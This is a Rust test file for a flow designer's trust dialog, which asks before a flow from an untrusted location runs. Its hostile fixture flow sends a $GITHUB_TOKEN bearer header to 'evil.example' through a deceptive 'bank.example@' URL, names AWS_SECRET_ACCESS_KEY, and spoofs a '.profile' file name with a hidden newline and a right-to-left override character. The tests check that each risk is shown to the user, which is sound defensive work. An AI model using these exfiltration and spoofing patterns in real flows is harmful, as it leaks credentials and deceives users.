//! Tests of trust: what is asked before a stranger's flow runs, and what each answer leads to.

use std::fmt::Write;

use egui::{Key, Modifiers};
use egui_kittest::Harness;
use egui_kittest::kittest::Queryable;
use runtime_protocol::RunState;

use crate::designer::Designer;
use crate::dialogs::Dialog;
use crate::host::Location;
use crate::tests::{FakeHost, press, settle, start};

const PLACE: &str = "/from/stranger.flow.json";

const HOSTILE: &str = r#"{"version":1,"nodes":{
    "in": {"kind": "http", "config": {"listen": "0.0.0.0:80", "secret": "AWS_SECRET_ACCESS_KEY"}},
    "out": {"kind": "http_out", "config": {"url": "https://bank.example@evil.example/x",
        "headers": {"Authorization": "Bearer $GITHUB_TOKEN"}}},
    "profile": {"kind": "export", "config": {"file": ".profile\nIt starts no other program.\u202e"}},
    "code": {"kind": "function", "config": {"component": "x.wasm"}}},
    "edges": {"e": {"from": "in.out", "to": "out.in"}}}"#;

fn open(host: &FakeHost, flow: &str) -> Harness<'static, Designer> {
    host.put(PLACE, flow);
    let mut harness = start(host);
    harness.state_mut().open(Location::new(PLACE));
    settle(&mut harness);
    harness
}

fn asked(harness: &Harness<'_, Designer>) -> bool {
    matches!(harness.state().dialog, Some(Dialog::Trust(_)))
}

fn run(harness: &mut Harness<'_, Designer>) {
    press(harness, Modifiers::COMMAND, Key::Enter);
}

fn click(harness: &mut Harness<'_, Designer>, label: &str) {
    harness.get_by_label(label).click();
    settle(harness);
}

fn state(harness: &Harness<'_, Designer>) -> RunState {
    harness.state().session.state()
}

#[test]
fn a_stranger_is_asked_about_and_refused() {
    let mut harness = open(&FakeHost::default(), HOSTILE);
    assert_eq!(state(&harness), RunState::Stopped, "opening runs nothing");
    run(&mut harness);
    harness.get_by_label("Run this flow?");
    for line in [
        "0.0.0.0:80",
        "open to other computers",
        "evil.example",
        "https://bank.example@evil.example/x",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        r".profile\u{a}It starts no other program.\u{202e}",
        "x.wasm",
        "It starts no other program.",
    ] {
        harness.get_by_label(line);
    }
    harness.check_accessibility();
    // Whoever still holds the key that runs a flow refuses.
    press(&mut harness, Modifiers::COMMAND, Key::Enter);
    assert!(!asked(&harness));
    assert_eq!(state(&harness), RunState::Stopped);
    run(&mut harness);
    click(&mut harness, "Cancel");
    run(&mut harness);
    press(&mut harness, Modifiers::NONE, Key::Escape);
    assert!(!asked(&harness));
    assert_eq!(state(&harness), RunState::Stopped);
}

#[test]
fn a_flow_that_was_allowed_for_good_is_not_asked_about_again() {
    let host = FakeHost::default();
    let mut harness = open(&host, HOSTILE);
    run(&mut harness);
    click(&mut harness, "Run it");
    assert_eq!(state(&harness), RunState::Running);
    drop(harness);
    let mut harness = open(&host, HOSTILE);
    run(&mut harness);
    assert_eq!(state(&harness), RunState::Running);
    // Until somebody takes all trust back.
    drop(harness);
    let mut harness = open(&host, HOSTILE);
    let ctx = harness.ctx.clone();
    harness.state_mut().perform(&ctx, "run.forget_trust");
    run(&mut harness);
    assert!(asked(&harness));
}

#[test]
fn a_flow_that_was_allowed_once_is_asked_about_again() {
    let mut harness = open(&FakeHost::default(), HOSTILE);
    run(&mut harness);
    click(&mut harness, "Run once");
    assert_eq!(state(&harness), RunState::Running);
    run(&mut harness);
    assert!(!asked(&harness), "deploying what runs already");
    press(&mut harness, Modifiers::SHIFT, Key::F8);
    run(&mut harness);
    assert!(asked(&harness));
}

#[test]
fn an_edit_of_a_running_flow_is_asked_about_when_it_reaches_further() {
    let flow = r#"{"version":1,"nodes":{"m":{"kind":"manual"}}}"#;
    let mut harness = open(&FakeHost::default(), flow);
    run(&mut harness);
    assert_eq!(state(&harness), RunState::Running, "it reaches nothing");
    let nothing = crate::canvas::intent::QuickAddFrom::Nothing;
    let add = |harness: &mut Harness<'_, Designer>, kind: &str| {
        let at = Some((40, 40));
        harness.state_mut().add_node(&kind.into(), at, &nothing);
        settle(harness);
    };
    let deployed = |harness: &Harness<'_, Designer>| {
        let designer = harness.state();
        !designer.session.undeployed(designer.state.revision())
    };
    add(&mut harness, "map");
    assert!(!asked(&harness) && deployed(&harness));
    add(&mut harness, "dead_letter");
    harness.get_by_label("dead-letters.jsonl");
    click(&mut harness, "Cancel");
    assert_eq!(state(&harness), RunState::Running);
    add(&mut harness, "map");
    assert!(!asked(&harness) && !deployed(&harness), "asked once");
    run(&mut harness);
    click(&mut harness, "Run once");
    assert!(deployed(&harness));
    add(&mut harness, "http");
    harness.get_by_label("127.0.0.1:8787");
    harness.get_by_label("for this computer only");
    assert!(harness.query_by_label("dead-letters.jsonl").is_none());
}

#[test]
fn what_was_made_here_and_the_samples_run_at_once() {
    let host = FakeHost::default();
    host.put("/samples/hello.flow.json", HOSTILE);
    let mut harness = start(&host);
    harness
        .state_mut()
        .open(Location::new("/samples/hello.flow.json"));
    settle(&mut harness);
    run(&mut harness);
    assert_eq!(state(&harness), RunState::Running);
    // Somewhere else it is still the same flow.
    harness
        .state_mut()
        .write(Location::new("/mine/a.flow.json"));
    settle(&mut harness);
    harness.state_mut().new_flow();
    settle(&mut harness);
    let nothing = crate::canvas::intent::QuickAddFrom::Nothing;
    harness
        .state_mut()
        .add_node(&"http".into(), Some((40, 40)), &nothing);
    run(&mut harness);
    assert_eq!(state(&harness), RunState::Running);
    harness
        .state_mut()
        .write(Location::new("/mine/b.flow.json"));
    settle(&mut harness);
    for place in ["/mine/a.flow.json", "/mine/b.flow.json"] {
        harness.state_mut().open(Location::new(place));
        settle(&mut harness);
        assert_eq!(state(&harness), RunState::Stopped);
        run(&mut harness);
        assert_eq!(state(&harness), RunState::Running, "{place}");
    }
}

#[test]
fn saving_a_stranger_elsewhere_or_recovering_it_does_not_make_it_ours() {
    let host = FakeHost::default();
    let mut harness = open(&host, HOSTILE);
    harness
        .state_mut()
        .write(Location::new("/mine/c.flow.json"));
    settle(&mut harness);
    run(&mut harness);
    assert!(asked(&harness));
    drop(harness);
    let mut harness = open(&host, HOSTILE);
    let nothing = crate::canvas::intent::QuickAddFrom::Nothing;
    harness
        .state_mut()
        .add_node(&"map".into(), Some((40, 40)), &nothing);
    harness.state_mut().autosave();
    drop(harness);
    let mut harness = start(&host);
    click(&mut harness, "Recover");
    run(&mut harness);
    assert!(asked(&harness));
}

#[test]
fn a_long_list_is_cut_in_each_kind_and_says_so() {
    let mut nodes = String::new();
    for n in 0..500 {
        write!(
            nodes,
            r#""x{n}": {{"kind": "export", "config": {{"file": "f{n}"}}}},"#
        )
        .expect("memory suffices");
    }
    let long = "y".repeat(100_000);
    let flow = format!(
        r#"{{"version":1,"nodes":{{{nodes} "out": {{"kind": "http_out", "config": {{"url": "https://evil.example/{long}"}}}}}}}}"#
    );
    let mut harness = open(&FakeHost::default(), &flow);
    run(&mut harness);
    harness.get_by_label("and 450 more");
    harness.get_by_label("evil.example");
    harness.get_by_label_contains("https://evil.example/yyy");
    harness.get_by_label("Run it");
}

#[test]
fn the_list_of_trusted_flows_is_bounded() {
    let mut trust = super::trust::Trust::default();
    for n in 0..2 * super::trust::TRUSTED_MAX {
        trust.remember(&Location::new(format!("/{n}.flow.json")));
    }
    assert_eq!(trust.places().count(), super::trust::TRUSTED_MAX);
    assert_eq!(
        trust.places().next().map(smol_str::SmolStr::as_str),
        Some("/399.flow.json")
    );
}
